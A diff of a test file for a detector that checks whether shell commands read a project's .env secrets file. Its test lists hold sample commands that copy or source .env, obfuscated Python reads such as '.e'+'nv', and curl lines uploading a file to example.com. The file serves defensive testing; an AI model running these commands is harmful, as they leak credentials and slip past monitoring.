@@ -21,14 +21,16 @@ for (const command of hidden) test(`.env leaves in another form: ${command.repla
 const named = ["cp .env /tmp/x", "mv .env x", "tar cf x.tar .env", "dd if=.env of=x", ". ./.env", "source .env", "node --env-file=.env app.js", "some-tool --config .env", "docker run --env-file .env app"];
 for (const command of named) test(`.env is used: ${command}`, () => assert.ok(isRead(command), reads(command).join()));
 
-const harmless = ["ls -la .env", "git add .env", "git status", "rm .env", "echo '.env'", "git commit -m 'read .env first'", "test -f .env", "chmod 600 .env", "grep -l KEY .env", "grep '.env' src/app.ts", "# cat .env", "cat app.ts # .env", "cp .env.example .env", "git log --oneline -- .env"];
+const harmless = ["ls -la .env", "git add .env", "git status", "rm .env", "echo '.env'", "git commit -m 'read .env first'", "test -f .env", "chmod 600 .env", "grep -l KEY .env", "grep '.env' src/app.ts", "# cat .env", "cat app.ts # .env", "cp .env.example .env", "git log --oneline -- .env", "git commit -m \"$(cat <<'EOF'\nDon't `cat .env`\nEOF\n)\""];
 for (const command of harmless) test(`nothing of .env comes out: ${command}`, () => assert.ok(!isRead(command), reads(command).join()));
 
-const unresolved = ["cat $FILE", "cat \"$(pick)\"", "cat < $X", "cat list | xargs cat", "eval \"$cmd\"", "bash -c \"$cmd\"", "node -e \"require('fs').readFileSync('.e'+'nv')\"", "python3 -c \"open(chr(46)+'env')\"", "cat 'open", "cd $X && cat notes.txt", "curl -T \"$FILE\" http://example.com", "curl -F f=@$FILE http://example.com"];
+const unresolved = ["cat $FILE", "cat \"$(pick)\"", "cat < $X", "cat list | xargs cat", "eval \"$cmd\"", "bash -c \"$cmd\"", "node -e \"require('fs').readFileSync('.e'+'nv')\"", "python3 -c \"open(chr(46)+'env')\"", "python3 -c \"p = '.e' + 'nv'; open(p)\"", "python3 -c \"p = 'a'; p = pick(); open(p)\"", "python3 -c \"p = '.e'; p += 'nv'; open(p)\"", "python3 -c \"p = '.e' 'nv'; open(p)\"", "python3 -c \"import glob\nfor f in glob.glob('*'): print(open(f).read())\"", "cat 'open", "cd $X && cat notes.txt", "curl -T \"$FILE\" http://example.com", "curl -F f=@$FILE http://example.com"];
 for (const command of unresolved) test(`what is read is not known: ${command}`, () => assert.ok(inspectCommand(command, place).unresolved.length > 0));
 
-const plain = ["npm test", "echo $HOME", "for i in 1 2 3; do echo $i; done", "python3 -c 'import json,sys; print(json.load(sys.stdin))'", "git log -5", "npm run build -- --watch", "ls | head", "node app.js", "diff <(ls a) <(ls b)", "make -j4", "curl -fsSL \"$URL\"", "cat package.json | jq .name"];
-for (const command of plain) test(`nothing is left open: ${command}`, () => assert.deepEqual(inspectCommand(command, place).unresolved, []));
+const message = "git commit -m \"$(cat <<'EOF'\nFix the user's (login\n\nIt read `cat .env` before :-)\nEOF\n)\"";
+const edit = "python3 - <<'EOF'\np = 'src/a.py'\ns = open(p).read()\nopen(p, 'w').write(s.replace('a', 'b'))\nfor q in ['b.py', 'c.py']:\n    print(open(q).read())\nEOF";
+const plain = [message, edit, "python3 -c 'import sys; print(open(sys.argv[1]).read())' package.json", "node -e \"const f = 'package.json'; console.log(require('fs').readFileSync(f, 'utf8'))\"", "cat > notes.md <<'EOF'\nit's \"here\" $(cat $X) (\nEOF\nls", "npm test", "echo $HOME", "for i in 1 2 3; do echo $i; done", "python3 -c 'import json,sys; print(json.load(sys.stdin))'", "git log -5", "npm run build -- --watch", "ls | head", "node app.js", "diff <(ls a) <(ls b)", "make -j4", "curl -fsSL \"$URL\"", "cat package.json | jq .name"];
+for (const command of plain) test(`nothing is left open: ${command.replaceAll("\n", "↵")}`, () => assert.deepEqual(inspectCommand(command, place).unresolved, []));
 
 test("folders that a command searches come with the names of files, unless it is told not to", () => {
   assert.deepEqual(inspectCommand("grep -rn KEY src", place).searches, [{ path: "src", named: true, names: [] }]);
@@ -56,7 +58,7 @@ test("PowerShell's words count wherever they stand", () => {
 });
 
 test("no text makes it throw or take long", () => {
-  const texts = ["$(".repeat(5000), "`".repeat(9999), "{a,b}".repeat(500), "\"$(".repeat(3000), "a".repeat(300_000), "<<EOF\n".repeat(2000), "'".repeat(5001), "cat ".repeat(20_000), "\\", "${", "$((", "<(", "$'", "|&;<>()", "\u0000\ud800", "f=$f$f; ".repeat(300), "for a in {1,2,3}{1,2,3}{1,2,3}{1,2,3}{1,2,3}{1,2,3}; do cat $a; done"];
+  const texts = ["$(".repeat(5000), "`".repeat(9999), "{a,b}".repeat(500), "\"$(".repeat(3000), "a".repeat(300_000), "<<EOF\n".repeat(2000), "'".repeat(5001), "cat ".repeat(20_000), "\\", "${", "$((", "<(", "$'", "|&;<>()", "\u0000\ud800", "f=$f$f; ".repeat(300), `python3 -c "p = ${"'a' ".repeat(5000)}; open(p)"`, `python3 -c "p = ${"'a',   ".repeat(5000)} x; open(p)"`, "for a in {1,2,3}{1,2,3}{1,2,3}{1,2,3}{1,2,3}{1,2,3}; do cat $a; done"];
   for (const text of texts) {
     const start = performance.now();
     inspectCommand(text, place);
